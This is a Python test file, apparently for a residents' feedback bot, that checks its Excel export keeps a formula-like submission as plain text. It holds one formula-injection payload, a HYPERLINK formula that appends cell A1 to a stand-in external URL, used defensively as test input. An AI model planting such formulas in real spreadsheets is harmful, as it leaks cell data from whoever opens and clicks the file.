"""The Excel export keeps residents' texts as text: no formula injection."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import insert

from bot.export import FIELDS, export_xlsx
from storage import models
from storage.db import Database

FORMULA = '=HYPERLINK("https://example.invalid/?x="&A1,"bấm vào đây")'


async def test_a_text_that_looks_like_a_formula_stays_text(db: Database, tmp_path: Path) -> None:
    at = datetime(2026, 11, 2, tzinfo=UTC)
    async with db.engine.begin() as conn:
        await conn.execute(
            insert(models.Submission),
            [
                {
                    "code": "YK-FORMUL", "person_id": None, "kind": "gop_y", "text": FORMULA,
                    "channel": "telegram", "created_at": at, "updated_at": at,
                    "status": "da_tiep_nhan", "flags": [], "needs_review": False,
                }
            ],
        )  # fmt: skip
    path = tmp_path / "export.xlsx"
    assert await export_xlsx(db, path) == 1
    sheet = load_workbook(path).worksheets[0]
    cell = sheet.cell(row=2, column=list(FIELDS).index("text") + 1)
    assert cell.value == FORMULA
    assert cell.data_type == "s"
